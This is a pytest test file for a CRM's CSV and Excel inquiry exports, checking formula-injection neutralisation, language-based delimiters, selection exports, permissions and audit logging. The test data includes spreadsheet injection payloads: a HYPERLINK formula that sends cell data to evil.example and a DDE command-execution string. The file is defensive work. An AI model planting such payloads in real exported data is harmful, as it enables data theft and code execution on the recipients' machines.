"""Inquiry exports (issue 18): one column definition for CSV and Excel, formula safety,
delimiter by language, exporting a selection, and the audit trail."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from crm.models import AuditLog
from crm.reports.export import COLUMNS, HEADER, MAX_SELECTED, neutralise
from tests.factories import InquiryFactory

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
    "+SUM(1)",
    "-2+3",
    "@cmd",
    "=1+1",
    "  =HYPERLINK(1)",
    "-cmd|' /C calc'!A0",
]


# ---- the CSV rule, where it lives ---------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        # real formula triggers get an apostrophe
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+SUM(1)", "'+SUM(1)"),
        ("-2+3", "'-2+3"),
        ("-2-3", "'-2-3"),  # arithmetic: Excel would show -5
        ("+1+1", "'+1+1"),
        ("@cmd", "'@cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("\n=1", "'\n'=1"),  # a line break may start a cell too
        ("  =1+1", "'  =1+1"),  # leading whitespace, then a formula
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),  # DDE
        ("-A1", "'-A1"),  # a cell reference
        ("+Anna(1)", "'+Anna(1)"),
        ("-Anna!B2", "'-Anna!B2"),
        ("\u2212SUM(1)", "'\u2212SUM(1)"),  # the minus sign U+2212
        ("\uff1dSUM(1)", "'\uff1dSUM(1)"),  # full-width equals
        ("\uff0bSUM(1)", "'\uff0bSUM(1)"),
        # ordinary values stay readable
        ("+46 70-123 45 67", "+46 70-123 45 67"),
        ("+46 (0)70 123 45 67", "+46 (0)70 123 45 67"),
        ("070-123 45 67", "070-123 45 67"),
        ("-5", "-5"),
        ("+3,5", "+3,5"),
        ("-Anna", "-Anna"),
        ("- Anna", "- Anna"),
        ("-Anna-Karin O'Brien", "-Anna-Karin O'Brien"),
        ("\u2212", "\u2212"),
        ("\u2212 Öppet hus", "\u2212 Öppet hus"),
        ("-", "-"),
        ("Anna = Bertil", "Anna = Bertil"),
        ("anna@exempel.se", "anna@exempel.se"),
        ("", ""),
        (None, ""),
    ],
)
def test_csv_neutralises_formulas_but_keeps_ordinary_values(value, expected):
    assert neutralise(value) == expected


def test_the_neutralising_rule_does_not_backtrack_for_long():
    import time

    started = time.perf_counter()
    neutralise("-" + "a" * 5000 + "1")
    neutralise("-" + "a " * 5000 + "(")
    assert time.perf_counter() - started < 0.5


# ---- CSV through HTTP -----------------------------------------------------------------------


def read_csv(response, delimiter):
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    assert not text.startswith("\ufeff\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def test_csv_delimiter_follows_the_language(client, db, login_as):
    login_as("secretary_general")
    InquiryFactory(subject="Rubrik, med komma")
    swedish = client.get("/export/inquiries.csv")
    assert swedish.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert swedish.headers["Content-Type"].count("charset") == 1
    assert swedish.get_data(as_text=True).splitlines()[0] == "\ufeff" + ";".join(HEADER)
    assert read_csv(swedish, ";")[1][12] == "Rubrik, med komma"
    client.post("/language", data={"lang": "en"})
    english = client.get("/export/inquiries.csv")
    assert english.get_data(as_text=True).splitlines()[0] == "\ufeff" + ",".join(HEADER)
    assert read_csv(english, ",")[1][12] == "Rubrik, med komma"
    # an explicit choice wins over the language
    chosen = client.get("/export/inquiries.csv?delimiter=semicolon")
    assert read_csv(chosen, ";")[0] == list(HEADER)
    client.post("/language", data={"lang": "sv"})
    assert read_csv(client.get("/export/inquiries.csv?delimiter=comma"), ",")[0] == list(HEADER)


def test_csv_keeps_a_phone_number_and_neutralises_a_formula(client, db, login_as):
    login_as("secretary_general")
    InquiryFactory(phone="+46 70-123 45 67", contact_name="=HYPERLINK(1)")
    row = read_csv(client.get("/export/inquiries.csv"), ";")[1]
    assert row[9] == "+46 70-123 45 67"
    assert row[7] == "'=HYPERLINK(1)"


# ---- Excel ---------------------------------------------------------------------------------


def read_xlsx(response):
    assert response.status_code == 200, response.text
    assert response.mimetype == XLSX
    assert "attachment" in response.headers["Content-Disposition"]
    assert ".xlsx" in response.headers["Content-Disposition"]
    return load_workbook(io.BytesIO(response.get_data()))


def test_xlsx_has_the_csv_columns_and_writes_text_as_text(client, db, login_as):
    login_as("chair")
    for index, payload in enumerate(HOSTILE):
        InquiryFactory(
            subject=payload,
            contact_name=payload,
            phone="+46 70-123 45 67" if index == 0 else "0701234567",
            organisation_name="http://evil.example/",
            created_at=datetime(2026, 6, 30, 22, index, tzinfo=UTC),
        )
    sheet = read_xlsx(client.get("/export/inquiries.xlsx")).active
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == list(HEADER)
    assert all(cell.font.bold for cell in rows[0])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:Q{len(HOSTILE) + 1}"
    assert sheet.column_dimensions["M"].width > sheet.column_dimensions["A"].width
    body = rows[1:]
    assert len(body) == len(HOSTILE)
    by_subject = {row[12].value: row for row in body}
    assert set(by_subject) == set(HOSTILE)  # exactly as typed: no apostrophe, no formula
    for row in body:
        for index in (5, 7, 9, 12):
            assert row[index].data_type == "s", (row[index].coordinate, row[index].value)
            assert row[index].data_type != "f"
        assert row[7].value == row[12].value
        assert row[5].value == "http://evil.example/"
        assert row[5].hyperlink is None
    assert by_subject[HOSTILE[0]][9].value == "+46 70-123 45 67"
    assert by_subject[HOSTILE[1]][9].value == "0701234567"  # a number-looking text stays text
    created = by_subject[HOSTILE[0]][1]
    assert created.is_date
    assert created.value == datetime(2026, 7, 1, 0, 0)  # Swedish summer time
    assert created.number_format == "yyyy-mm-dd hh:mm"


def test_xlsx_days_are_dates(client, db, login_as):
    login_as("secretary_general")
    InquiryFactory(
        created_at=datetime(2026, 3, 2, 9, 0, tzinfo=UTC),
        first_response_at=datetime(2026, 3, 3, 9, 0, tzinfo=UTC),
    )
    row = list(read_xlsx(client.get("/export/inquiries.xlsx")).active.iter_rows())[1]
    first_response, closed = HEADER.index("Första svar"), HEADER.index("Avslutad")
    assert row[first_response].is_date
    assert row[first_response].value.date() == date(2026, 3, 3)
    assert row[first_response].number_format == "yyyy-mm-dd"
    assert row[closed].value is None  # not closed: an empty cell


def test_xlsx_follows_the_filters_and_is_audited(client, db, login_as):
    me = login_as("secretary_general")
    InquiryFactory(category="research", subject="Forskning")
    InquiryFactory(category="exhibition", subject="Utställning")
    sheet = read_xlsx(client.get("/export/inquiries.xlsx?category=research&q=Forsk")).active
    assert [row[12] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Forskning"]
    entry = db.session.scalar(select(AuditLog).where(AuditLog.action == "personal_data_exported"))
    assert entry.actor_id == me.id
    assert entry.details["format"] == "xlsx"
    assert entry.details["what"] == "inquiries.xlsx"
    assert entry.details["filters"] == {"category": "research", "q": "(5 tecken)"}


def test_csv_and_xlsx_share_the_columns():
    assert tuple(column.header for column in COLUMNS) == HEADER
    assert len(HEADER) == 17


# ---- a selection, by POST ------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/export/inquiries.csv", "/export/inquiries.xlsx"])
def test_post_exports_just_the_selected_inquiries(client, db, login_as, path):
    me = login_as("secretary_general")
    first, second, _other = InquiryFactory(), InquiryFactory(), InquiryFactory()
    response = client.post(
        path + "?category=research",  # the filters do not apply to a selection
        # an id beyond a PostgreSQL integer is dropped, not a database error in the IN list
        data={
            "selected": [str(first.id), str(second.id), "999999", "abc", str(first.id), str(2**40)]
        },
    )
    assert response.status_code == 200
    if path.endswith(".csv"):
        references = [row[0] for row in read_csv(response, ";")[1:]]
    else:
        sheet = read_xlsx(response).active
        references = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(references) == sorted([first.reference, second.reference])
    entry = db.session.scalar(select(AuditLog).where(AuditLog.action == "personal_data_exported"))
    assert entry.actor_id == me.id
    assert entry.details["selected"] == 3  # two known ids and one unknown, each once
    assert "filters" not in entry.details


@pytest.mark.parametrize("path", ["/export/inquiries.csv", "/export/inquiries.xlsx"])
def test_an_empty_or_too_large_selection_goes_back_to_the_list(client, db, login_as, path):
    login_as("secretary_general")
    empty = client.post(path, data={"selected": ["", "x"]})
    assert empty.status_code == 303
    assert empty.headers["Location"] == "/inquiries"
    assert "Välj de förfrågningar" in client.get("/inquiries").text
    too_many = client.post(
        path,
        data={
            "selected": [str(n) for n in range(1, MAX_SELECTED + 2)],
            "next": "/inquiries?status=new",
        },
    )
    assert too_many.status_code == 303
    assert too_many.headers["Location"] == "/inquiries?status=new"
    assert "Välj högst 1000" in client.get("/inquiries").text
    audited = select(AuditLog).where(AuditLog.action == "personal_data_exported")
    assert db.session.scalar(audited) is None


@pytest.mark.parametrize("path", ["/export/inquiries.csv", "/export/inquiries.xlsx"])
@pytest.mark.parametrize("method", ["get", "post"])
def test_board_may_not_export(client, db, login_as, path, method):
    login_as("board")
    inquiry = InquiryFactory()
    response = getattr(client, method)(path, data={"selected": [str(inquiry.id)]})
    assert response.status_code == 403


def test_post_export_needs_the_csrf_token(app, client, db, login_as):
    login_as("secretary_general")
    inquiry = InquiryFactory()
    app.config["WTF_CSRF_ENABLED"] = True
    try:
        response = client.post("/export/inquiries.xlsx", data={"selected": [str(inquiry.id)]})
    finally:
        app.config["WTF_CSRF_ENABLED"] = False
    assert response.status_code == 400


def test_list_offers_the_export_menu_with_the_filters(client, db, login_as):
    login_as("secretary_general")
    page = client.get("/inquiries?category=research").text
    assert "/export/inquiries.xlsx?category=research" in page
    assert "/export/inquiries.csv?category=research" in page


def test_list_hides_the_export_menu_from_the_board(client, db, login_as):
    login_as("board")
    page = client.get("/inquiries").text
    assert "/export/inquiries" not in page


def test_both_exports_carry_the_tags_sorted_and_formula_safe(client, db, login_as):
    from crm.tags.services import tag_inquiry

    me = login_as("secretary_general")
    tagged, plain = InquiryFactory(), InquiryFactory()
    with client.application.test_request_context():
        for name in ("remiss", "Folk och Kultur 2027", "=HYPERLINK(1)"):
            tag_inquiry(tagged, name, me)
    db.session.commit()
    column = HEADER.index("Etiketter")
    rows = {row[0]: row for row in read_csv(client.get("/export/inquiries.csv"), ";")[1:]}
    assert rows[tagged.reference][column] == "'=HYPERLINK(1), Folk och Kultur 2027, remiss"
    assert rows[plain.reference][column] == ""
    sheet = read_xlsx(client.get("/export/inquiries.xlsx")).active
    cells = {row[0].value: row[column] for row in sheet.iter_rows(min_row=2)}
    assert cells[tagged.reference].value == "=HYPERLINK(1), Folk och Kultur 2027, remiss"
    assert cells[tagged.reference].data_type == "s"  # text, never a formula
    assert cells[plain.reference].value is None
